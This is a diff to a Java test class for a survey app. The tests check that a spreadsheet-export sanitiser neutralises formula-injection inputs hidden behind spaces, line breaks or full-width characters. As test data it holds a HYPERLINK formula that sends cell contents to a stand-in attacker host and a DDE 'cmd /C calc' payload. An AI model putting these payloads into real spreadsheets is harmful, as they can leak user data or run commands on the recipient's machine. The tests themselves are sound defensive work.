@@ -98,7 +98,10 @@ class LinksAndExportTest {
     app.tick();
     app.deliver();
     assertThat(
-            sandbox("click", "{\"user\":\"d@x.org\",\"actionId\":\"cl:s:1:rate:1\"}").statusCode())
+            sandbox(
+                    "click",
+                    "{\"messageId\":\"1\",\"user\":\"d@x.org\",\"actionId\":\"cl:s:1:rate:1\"}")
+                .statusCode())
         .isEqualTo(200);
     app.deliver();
     String comment = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click me\")";
@@ -130,5 +133,27 @@ class LinksAndExportTest {
     }
     assertThat(SurveyExport.spreadsheetSafe("It's fine = ok")).isEqualTo("It's fine = ok");
     assertThat(SurveyExport.spreadsheetSafe("")).isEqualTo("");
+  }
+
+  @Test
+  void aTriggerBehindSpacesOrInFullWidthIsNeutralisedToo() {
+    // LibreOffice's "trim spaces" import option, a line break before the formula, and the
+    // full-width signs a Japanese input method types, which spreadsheets read as the ASCII ones
+    for (String t :
+        new String[] {
+          " =1+1",
+          "  @SUM(A1)",
+          "\n=HYPERLINK(\"http://evil.example\")",
+          "\u00a0+1",
+          "\u3000-1",
+          "\uff1dcmd|' /C calc'!A0",
+          "\uff0b1",
+          "\uff0d1",
+          "\uff20A1"
+        }) {
+      assertThat(SurveyExport.spreadsheetSafe(t)).as(t).isEqualTo("'" + t);
+    }
+    assertThat(SurveyExport.spreadsheetSafe("  fine")).isEqualTo("  fine");
+    assertThat(SurveyExport.spreadsheetSafe("   ")).isEqualTo("   ");
   }
 }
